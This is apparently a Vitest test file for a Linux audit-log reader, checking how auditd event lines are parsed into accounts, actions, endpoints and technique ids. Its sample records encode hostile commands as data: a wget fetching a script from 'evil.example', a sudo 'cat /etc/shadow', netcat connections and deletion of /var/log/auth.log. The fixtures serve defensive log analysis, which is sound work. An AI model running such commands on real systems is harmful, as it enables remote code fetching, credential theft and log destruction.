import { describe, expect, it } from 'vitest';
import { describeLogReader, readLines, silent } from '../log-reader.contract.ts';
import { linuxAuditReader } from './linux-audit.ts';

const id = (number: number): string => `msg=audit(1767225600.250:${number}): `;
const call = (number: number, more = ''): string => `type=SYSCALL ${id(number)}arch=c000003e syscall=59 success=yes exit=0 a0=1 items=2 ppid=1 pid=2 auid=1000 uid=0 euid=0 tty=pts0 ses=4 comm="wget" exe="/usr/bin/wget" key="net_tool"${more}`;
const execve = (number: number): string => `type=EXECVE ${id(number)}argc=3 a0="wget" a1="-q" a2=687474703A2F2F6576696C2E6578616D706C652F6120622E7368`;
const title = (number: number): string => `type=PROCTITLE ${id(number)}proctitle=77676574002D71`;
const login = `type=USER_LOGIN ${id(9)}pid=7 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="ada" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=sshd res=failed'\u001dUID="root" AUID="unset"`;

describeLogReader(linuxAuditReader, [call(1), execve(1), title(1), login]);

const read = (...lines: string[]) => readLines(linuxAuditReader, lines).records;
const alone = (line: string) => linuxAuditReader.open(silent).parseAlone?.(line, { line: 1, byteOffset: 0 });

describe('linux-audit', () => {
  it('joins the lines of one event and decodes them', () => {
    expect(read(call(1, '\u001dARCH=x86_64 SYSCALL=execve AUID="ada" UID="root"'), execve(1), title(1))).toMatchObject([{
      line: 1, lastLine: 3, timeMs: Date.UTC(2026, 0, 1, 0, 0, 0, 250), message: 'audit execve: wget -q http://evil.example/a b.sh', commandLine: 'wget -q http://evil.example/a b.sh', process: '/usr/bin/wget', account: 'ada', action: 'success', ruleId: 'net_tool', classUid: 1007,
    }]);
  });

  it('keeps events apart whose lines are mixed', () => {
    const records = read(call(1), call(2), execve(1), execve(2), title(2), title(1));
    expect(records.map((record) => [record.line, record.lastLine])).toEqual([[1, 6], [2, 5]]);
  });

  it('ends an event at a blank line, and loses nothing when many are open', () => {
    expect(read(call(1), '', execve(1)).map((record) => record.line)).toEqual([1, 3]);
    const many = Array.from({ length: 100 }, (_, index) => call(index));
    expect(read(...many, ...many).length).toBe(200);
  });

  it.each([
    [login, { message: 'audit user login failed: login', account: 'ada', action: 'failure', srcEndpoint: { ip: '203.0.113.9' }, ruleId: 'USER_LOGIN', classUid: 3002 }],
    [`type=ADD_USER ${id(3)}pid=7 uid=0 auid=1000 ses=4 msg='op=add-user acct="eve" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'\u001dUID="root" AUID="ada"`, { message: 'audit new user added: add-user', account: 'ada', targetAccount: 'eve', action: 'success', classUid: 3001 }],
    [`type=USER_CMD ${id(3)}pid=7 uid=1000 auid=1000 ses=4 msg='cwd="/home/ada" cmd=636174202F6574632F736861646F77 exe="/usr/bin/sudo" terminal=pts/0 res=success'`, { message: 'audit sudo command: cat /etc/shadow', commandLine: 'cat /etc/shadow', account: 'uid=1000' }],
    [`type=ANOM_ABEND ${id(3)}auid=1000 uid=1000 pid=7 comm="app" exe="/usr/bin/app" sig=11 res=1AUID="ada" UID="ada"`, { message: 'audit anomaly: process crashed: app', severityId: 3, account: 'ada' }],
    [`type=AVC ${id(3)}avc:  denied  { read } for  pid=7 comm="app" name="shadow" dev="sda1" ino=1 scontext=a tcontext=b tclass=file permissive=0`, { message: 'audit AVC denied { read } on shadow by app', action: 'blocked', severityId: 2 }],
    [`type=AVC ${id(3)}avc:  denied  { read } for  pid=7 comm="app" permissive=1`, { action: 'allowed' }],
    [`type=AVC ${id(3)}apparmor="DENIED" operation="open" profile="/usr/bin/app" name="/etc/shadow" pid=7 comm="app" requested_mask="r" denied_mask="r"`, { message: 'audit AppArmor denied open on /etc/shadow by app', action: 'blocked' }],
    [`type=SERVICE_START ${id(3)}pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=cron comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`, { message: 'audit service started: cron', action: 'success' }],
    [`type=UNKNOWN[1112] ${id(3)}msg='op=login acct="ada" res=success'`, { ruleId: 'USER_LOGIN', account: 'ada' }],
    [`node=web1 type=CONFIG_CHANGE ${id(3)}op=remove_rule key="x" list=4 res=1`, { device: { hostname: 'web1' }, message: 'audit rules or configuration changed: remove_rule' }],
    [`type=LOGIN ${id(3)}pid=7 uid=0 old auid=4294967295 new auid=1000 old ses=4294967295 new ses=4`, { account: 'uid=1000', message: 'audit login id set' }],
    ['type=SYSCALL msg=audit(01/31/2026 10:00:00.250:7) : arch=x86_64 syscall=execve success=no exit=ENOENT(No such file or directory) auid=ada uid=root comm=ls exe=/usr/bin/ls key=T1059.004_shell', { message: 'audit execve failed: /usr/bin/ls', account: 'ada', techniqueIds: ['T1059.004'], isTimeGuessed: true, action: 'failure' }],
    ['type=WORD msg=audit(): no date', { message: 'audit word: no date', ruleId: 'WORD' }],
    ['type= msg=audit(1767225600.250:7): no type', { ruleId: 'UNKNOWN', message: 'audit unknown: no type' }],
  ])('reads %j', (line, expected) => {
    expect(read(line)[0]).toMatchObject(expected);
  });

  it.each([
    ['42', 'saddr=02001F90CB007109000000000000000000', { dstEndpoint: { ip: '203.0.113.9', port: 8080 }, message: 'audit connect by nc', classUid: 4001 }],
    ['42', 'saddr=0A0001BB0000000020010DB800000000000000000000000900000000', { dstEndpoint: { ip: '2001:db8:0:0:0:0:0:9', port: 443 } }],
    ['288', 'saddr=02001F90CB007109000000000000000000', { srcEndpoint: { ip: '203.0.113.9', port: 8080 }, message: 'audit accept4 by nc' }],
    ['49', 'saddr=0200115C000000000000000000000000', { message: 'audit bind by nc' }],
    ['42', 'saddr=01002F72756E2F7800', { file: '/run/x', message: 'audit connect /run/x by nc' }],
    ['42', 'saddr=00\u001dSADDR={ saddr_fam=inet laddr=203.0.113.9 lport=80 }', { dstEndpoint: { ip: '203.0.113.9', port: 80 } }],
    ['42', 'saddr=zz', { message: 'audit connect by nc' }],
  ])('reads the socket of call %s: %s', (number, socket, expected) => {
    expect(read(`type=SYSCALL ${id(5)}arch=c000003e syscall=${number} success=yes exit=0 auid=4294967295 uid=0 comm="nc" exe="/bin/nc" key=(null)`, `type=SOCKADDR ${id(5)}${socket}`)[0]).toMatchObject(expected);
  });

  it('names the file that a call acted on', () => {
    const [record] = read(`type=SYSCALL ${id(5)}arch=c000003e syscall=263 success=no exit=-13 uid=0 comm="rm" exe="/bin/rm" key="gone"`, `type=CWD ${id(5)}cwd="/var/log"`, `type=PATH ${id(5)}item=0 name="." nametype=PARENT`, `type=PATH ${id(5)}item=1 name="auth.log" nametype=DELETE`);
    expect(record).toMatchObject({ file: '/var/log/auth.log', message: 'audit unlinkat failed /var/log/auth.log by rm', action: 'failure', classUid: 1001 });
  });

  it('tells a cut line from another format, and what ausearch writes between', () => {
    const result = readLines(linuxAuditReader, ['----', 'time->Thu Jan  1 10:00:00 2026', 'type=SYSCALL msg=audit(17672', 'words']);
    expect(result.structureLines).toEqual([1, 2]);
    expect(result.rejected.map((line) => [line.line, line.reason !== undefined])).toEqual([[3, true], [4, false]]);
  });

  it.each([
    [`Jan  1 00:00:00 web1 audispd: node=web1 ${login}`, { account: 'ada', timeMs: Date.UTC(2026, 0, 1, 0, 0, 0, 250), device: { hostname: 'web1' } }],
    ['Jan  1 00:00:00 web1 kernel: [9.5] audit: type=1400 audit(1767225600.250:7): apparmor="ALLOWED" operation="open" profile="x" name="/a/b" pid=7 comm="x"', { action: 'allowed', device: { hostname: 'web1' } }],
    ['2026-01-01T00:00:01Z web1 audit[7]: USER_AUTH pid=7 uid=0 auid=4294967295 msg=\'op=PAM:authentication acct="ada" exe="/usr/bin/su" hostname=? addr=? terminal=pts/0 res=failed\'', { account: 'root', targetAccount: 'ada', timeMs: Date.UTC(2026, 0, 1, 0, 0, 1) }],
  ])('reads a line behind a header: %j', (line, expected) => {
    expect(alone(line)).toMatchObject(expected);
  });

  it.each(['the function audit(x) was called', 'audit(1): x', 'type=x'])('does not claim %j', (line) => {
    expect(alone(line)).toBeUndefined();
  });
});
